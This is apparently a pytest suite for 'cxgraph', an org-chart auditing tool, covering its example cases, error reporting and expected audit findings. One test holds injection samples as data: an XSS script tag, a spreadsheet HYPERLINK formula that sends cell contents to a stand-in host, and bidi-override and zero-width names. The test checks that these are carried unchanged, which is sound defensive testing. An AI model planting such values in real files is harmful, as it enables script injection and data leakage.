"""The examples: the worked cases say what they were written for, the invalid ones fail for the stated reason."""

import re
from collections.abc import Iterable, Iterator
from functools import cache
from pathlib import Path

import msgspec
import pytest

import cxgraph
from cxgraph.assessment.audit import Audit
from cxgraph.core.errors import OrgFileError
from cxgraph.core.model import Chart, Org, Positions, Record, canonical
from cxgraph.inputs.charts.yaml import read_yaml
from cxgraph.knowledge.catalogue import SEVERITIES

EXAMPLES = Path(__file__).parents[1] / "examples"
CASES = sorted(EXAMPLES.glob("s*.yaml"))
INVALID = sorted((EXAMPLES / "invalid").glob("*.yaml"))
EXPECTED = re.compile(rb"# expect: (\d+):(\d+): (.+)\n")
PLACEMENTS = ("s2-agency-cio", "s2-agency-staff-office", "s2-agency-strategy-office")


def name_of(path: Path) -> str:
    return path.stem


@cache
def case(name: str) -> Org:
    return cxgraph.load(EXAMPLES / f"{name}.yaml")


@cache
def audited(name: str) -> Audit:
    return cxgraph.audit(case(name))


def edited(name: str, old: str, new: str) -> Audit:
    """The audit of an example with one fact told otherwise."""
    text = (EXAMPLES / f"{name}.yaml").read_text("utf-8")
    assert text.count(old) == 1
    return cxgraph.audit(read_yaml(text.replace(old, new), f"{name}.yaml"))


def failed(audit: Audit, *severities: str) -> list[str]:
    """Codes of the rules that failed, in the order of the findings."""
    wanted = severities or ("error", "warning", "note")
    return [f.code for f in audit.findings if f.outcome == "fail" and f.severity in wanted]


def subjects(audit: Audit, code: str) -> set[str]:
    return {s for f in audit.findings if f.code == code and f.outcome == "fail" for s in f.subjects}


def indicators(audit: Audit, pillar: str) -> dict[str, tuple[float, float]]:
    return {indicator.id: (indicator.low, indicator.high) for indicator in audit.scores[pillar].indicators}


def changed(org: Org, section: str, id_: str, **facts: object) -> Org:
    """The organisation with one item's fields replaced."""
    items = tuple(msgspec.structs.replace(item, **facts) if item.id == id_ else item for item in getattr(org, section))
    return msgspec.structs.replace(org, **{section: items})


# What the files are


@pytest.mark.parametrize("path", CASES, ids=name_of)
def test_a_case_has_the_size_of_a_real_leadership_chart(path: Path) -> None:
    assert 12 <= len(case(path.stem).posts) <= 40


@pytest.mark.parametrize("path", CASES, ids=name_of)
def test_a_case_opens_with_what_it_is_about(path: Path) -> None:
    lines = path.read_text("utf-8").splitlines()
    head = lines[: lines.index("cxgraph: 1")]
    assert all(line.startswith("#") for line in head)
    assert 5 <= sum(line != "#" for line in head) <= 10


def test_organisations_are_different_but_for_the_three_placements_of_one_agency() -> None:
    names = [case(path.stem).organization.name for path in CASES if path.stem not in PLACEMENTS]
    assert len(set(names)) == len(names) == 6
    assert len({case(name).organization.name for name in PLACEMENTS}) == 1


@pytest.mark.parametrize("path", CASES, ids=name_of)
def test_every_holder_holds_one_post(path: Path) -> None:
    holders = [holder for post in case(path.stem).posts for holder in post.holders or ()]
    assert len(set(holders)) == len(holders)


def test_nobody_works_for_two_of_the_companies() -> None:
    once = [path.stem for path in CASES if path.stem not in PLACEMENTS[1:]]
    holders = [holder for name in once for post in case(name).posts for holder in post.holders or ()]
    assert len(set(holders)) == len(holders)


def test_a_unit_holds_at_least_the_units_inside_it() -> None:
    for path in CASES:
        units = {unit.id: unit for unit in case(path.stem).units or ()}
        for outer in units.values():
            inside = sum(unit.headcount or 0 for unit in units.values() if unit.parent == outer.id)
            assert outer.headcount is None or inside <= outer.headcount, (path.stem, outer.id)


def test_the_cases_use_every_field_of_the_format() -> None:
    used = {field for path in CASES for field in used_fields(case(path.stem))}
    assert fields_of(Chart) - used == set()


def fields_of(record: type[Record]) -> set[str]:
    found: set[str] = set()
    for field in msgspec.structs.fields(record):
        found.add(f"{record.__name__}.{field.name}")
        for part in records_in(msgspec.inspect.type_info(field.type)):
            found |= fields_of(part)
    return found


def records_in(type_: msgspec.inspect.Type) -> Iterator[type[Record]]:
    match type_:
        case msgspec.inspect.StructType(cls=record):
            yield record
        case msgspec.inspect.UnionType(types=members):
            for member in members:
                yield from records_in(member)
        case msgspec.inspect.VarTupleType(item_type=item) | msgspec.inspect.Metadata(type=item):
            yield from records_in(item)


def used_fields(record: Record) -> Iterator[str]:
    """Fields that say something: not left out, or given although empty."""
    owner = "Chart" if isinstance(record, Org) else type(record).__name__
    for field in msgspec.structs.fields(record):
        value = getattr(record, field.name)
        if isinstance(value, Positions) or value == field.default:
            continue
        yield f"{owner}.{field.name}"
        parts: Iterable[object] = value if isinstance(value, tuple) else (value,)
        for part in parts:
            if isinstance(part, Record):
                yield from used_fields(part)


def test_a_required_field_counts_as_used_and_a_default_does_not() -> None:
    org = read_yaml("cxgraph: 1\norganization: {name: A}\nposts: [{id: a, title: T, concurrent: []}]", "a.yaml")
    assert "Post.title" in set(used_fields(org))
    assert {"Post.concurrent", "Post.mandate", "Chart.units"}.isdisjoint(used_fields(org))


# What must not load, and what must


@pytest.mark.parametrize("path", INVALID, ids=name_of)
def test_an_invalid_file_fails_where_and_why_it_says(path: Path) -> None:
    expected = EXPECTED.match(path.read_bytes())
    assert expected is not None
    line, column, text = (group.decode() for group in expected.groups())
    with pytest.raises(OrgFileError) as raised:
        cxgraph.load(path)
    (problem,) = raised.value.problems
    assert (problem.line, problem.column) == (int(line), int(column))
    assert text in str(problem)
    assert str(problem).startswith(f"{problem.file}:{line}:{column}: ")


def test_all_problems_of_a_file_are_told_in_one_run_sorted_by_line() -> None:
    text = """\
cxgraph: 1
organization: {name: Acme, as_of: soon}
posts:
  - {id: ceo, title: Chief Executive Officer, reports_to: none}
  - {id: cxo, titel: Chief Experience Officer, title: CXO, reports_to: ceoo}
units:
  - {id: shops, customer_facing: maybe, headcount: -4}
ties:
  - {from: cxo, to: cpo, stance: partnr}
"""
    with pytest.raises(OrgFileError) as raised:
        read_yaml(text, "org.yaml")
    places = [(problem.line, problem.column) for problem in raised.value.problems]
    assert places == [(2, 35), (5, 15), (5, 72), (7, 34), (7, 52), (9, 21), (9, 34)]


def test_hostile_texts_are_carried_as_they_are() -> None:
    org = case("hostile")
    ids = [post.id for post in org.posts]
    assert ids[:9] == [
        "<script>alert(1)</script>", "NO", "no", "016", "1e3", "null", "~", "2026-01-01", "https://example.org/evil#x",
    ]  # fmt: skip
    assert org.posts[1].holder == "Ana \u202eziur\u202c"
    assert org.posts[2].holder == '=HYPERLINK("https://example.org/?q="&A1,"open")'
    assert org.posts[5].holder == "null"
    assert org.posts[6].holder == "Zo\u200be\u0301"
    assert org.units is not None
    assert (org.units[0].id, org.units[0].name, org.units[0].head) == ("016", "]]>&lt;!--", "NO")


# What the audit must say of each case

VERDICTS = {
    # case: errors, warnings, notes, each in the order in which they are told
    "s0-consumer": ("CX201", "", ""),
    "s1-contact-centre": ("CX111", "CX401 CX404 CX211 CX203 CX302 CX301 CX105 CX202", "CX303 CX116"),
    "s1-deputy": ("", "", ""),
    "s2-agency-cio": ("CX111", "CX404 CX302", "CX109 CX303 CX116 CX104"),
    "s2-agency-staff-office": ("CX111", "CX404 CX302", "CX109 CX303 CX116"),
    "s2-agency-strategy-office": ("", "CX404 CX302", "CX109 CX303 CX116"),
    "s3-bank": ("CX402", "CX401 CX302", "CX303"),
    "s3-champion": ("", "", ""),
    "s4-service": ("", "CX302 CX304 CX305", "CX308 CX208 CX309 CX306"),
}


def test_every_case_has_its_verdict() -> None:
    assert set(VERDICTS) == {path.stem for path in CASES}


@pytest.mark.parametrize("name", VERDICTS)
def test_a_case_is_told_as_the_evidence_has_it(name: str) -> None:
    heard = [f for f in audited(name).findings if f.outcome == "fail" and f.suppressed is None]
    found = tuple(" ".join(f.code for f in heard if f.severity == severity) for severity in SEVERITIES)
    assert found == VERDICTS[name]


def test_s0_a_note_is_set_aside_with_its_reason() -> None:
    (aside,) = (finding for finding in audited("s0-consumer").findings if finding.suppressed)
    assert (aside.code, aside.subjects[-1]) == ("CX308", "contact-centre")


def test_s2_the_placement_under_technology_is_a_contested_note() -> None:
    (note,) = (finding for finding in audited("s2-agency-cio").findings if finding.code == "CX104")
    assert (note.severity, note.contested, note.counter_evidence) == ("note", True, ("S2.2a",))


def test_s4_missing_skills_are_named_and_flexible_work_is_shown_with_both_sides() -> None:
    found = {finding.code: finding for finding in audited("s4-service").findings}
    assert "journey optimisation" in found["CX302"].message
    assert set(found["CX308"].evidence) == {"S4.3", "S4.4"}
    assert found["CX308"].counter_evidence == ("S4.5",)


@pytest.mark.parametrize("name", VERDICTS)
def test_findings_point_at_a_line_of_the_file(name: str) -> None:
    lines = (EXAMPLES / f"{name}.yaml").read_text("utf-8").splitlines()
    for finding in audited(name).findings:
        assert finding.line is not None and finding.column is not None
        assert lines[finding.line - 1][finding.column - 1 :].strip()


@pytest.mark.parametrize(
    ("name", "lead"),
    [
        ("s0-consumer", "cxo"), ("s1-contact-centre", "cxo"), ("s1-deputy", "cx-head"), ("s2-agency-cio", "cxo"),
        ("s3-bank", "cxo"), ("s3-champion", "cx-head"), ("s4-service", "cco"),
    ],
)  # fmt: skip
def test_the_lead_is_found_whether_marked_or_not(name: str, lead: str) -> None:
    found = audited(name).cx_lead
    assert found is not None
    assert found.post == lead


def test_s0_the_absent_people_officer_leads() -> None:
    audit = audited("s0-consumer")
    assert failed(audit)[0] == "CX201"
    assert "people-chief" in subjects(audit, "CX201")
    assert indicators(audit, "collaboration")["people_partner"] == (0, 0)


def test_s0_the_friction_of_control_functions_is_agreed_not_failure() -> None:
    low, high = indicators(audited("s0-consumer"), "collaboration")["agreed_checks"]
    assert 0 < low <= high == 1  # nothing but the control roles that the chart does not list is open


def test_s0_a_people_officer_who_is_a_partner_at_strategy_clears_the_error() -> None:
    audit = edited("s0-consumer", "stance: absent, reason: not-invited", "stance: partner, stage: strategy")
    assert failed(audit, "error") == []
    assert indicators(audit, "collaboration")["people_partner"] == (1, 1)


def test_s1_reach_and_initiative_power_are_narrow() -> None:
    audit = audited("s1-contact-centre")
    authority = indicators(audit, "authority")
    link = (2 / 5 + 466 / 1607) / 2  # the two contact-centre units of five, and 466 people of 1,607
    assert authority["doers"] == pytest.approx((link, link), abs=1e-6)
    assert authority["scope"] == pytest.approx((link / 2, link / 2), abs=1e-6)  # nor does she own the journey
    assert audit.scores["authority"].high < 60
    assert authority["initiative_power"] == (0.25, 0.25)  # one unit of four
    assert {"stores", "business", "field"} <= subjects(audit, "CX111")


def test_s1_a_trusted_deputy_covers_the_contact_centre() -> None:
    assert indicators(audited("s1-deputy"), "capability")["contact_centre"] == (1, 1)
    assert failed(audited("s1-deputy"), "error", "warning") == []


def test_s2_the_placements_are_of_the_same_team() -> None:
    cio, staff = case(PLACEMENTS[0]), case(PLACEMENTS[1])
    moved = changed(changed(staff, "posts", "cxo", reports_to="cio"), "units", "cx-office", parent="ocio")
    assert canonical(moved) == canonical(cio)


def test_s2_under_the_cio_and_in_a_staff_office_only_the_way_to_the_top_differs() -> None:
    cio, staff = (indicators(audited(name), "authority") for name in PLACEMENTS[:2])
    assert {name for name in cio if cio[name] != staff[name]} == {"seat", "deciders"}
    assert cio["seat"] == (0.75, 0.75)
    assert staff["seat"] == (1, 1)


@pytest.mark.parametrize(("boss", "office"), [("cio", "ocio"), ("administrator", None), ("planning-head", "planning")])
def test_s2_a_sponsor_and_embedded_people_lift_any_placement_above_both(boss: str, office: str | None) -> None:
    org = changed(case(PLACEMENTS[2]), "posts", "cxo", reports_to=boss)
    lifted = cxgraph.audit(changed(org, "units", "cx-office", parent=office)).scores["authority"]
    assert all(lifted.low > audited(name).scores["authority"].high for name in PLACEMENTS[:2])


def test_s3_rival_objectives_lead_and_nobody_commands_the_three_units() -> None:
    audit = audited("s3-bank")
    assert failed(audit)[0] == "CX402"
    assert {"branch", "auto-loan", "mortgage"} <= subjects(audit, "CX401")
    assert indicators(audit, "authority")["initiative_power"] == (0, 0)


def test_s3_a_shared_objective_clears_both_without_moving_a_line() -> None:
    audit = edited("s3-bank", "shared_objectives: []", "shared_objectives: [next-offer-accepted]")
    assert {"CX401", "CX402"}.isdisjoint(failed(audit))
    assert indicators(audit, "authority")["initiative_power"] == (1, 1)


def test_s3_the_champion_is_clean() -> None:
    audit = audited("s3-champion")
    assert failed(audit, "error", "warning") == []
    assert audit.cx_lead is not None
    assert audit.cx_lead.tier == 2
    assert audit.scores["authority"].coverage == 1


def test_s4_learning_retention_and_careers_are_known_to_be_missing() -> None:
    capability = indicators(audited("s4-service"), "capability")
    assert {name: capability[name] for name in ("learning", "retention", "career_paths")} == {
        "learning": (0, 0), "retention": (0, 0), "career_paths": (0, 0),
    }  # fmt: skip


def test_s4_specialised_skills_are_checked_one_by_one() -> None:
    capability = indicators(audited("s4-service"), "capability")
    assert capability["specialised_skills"] == (0.5, 0.5)  # no data-analytics, no journey-optimisation
    assert capability["craft_skills"] == (1, 1)
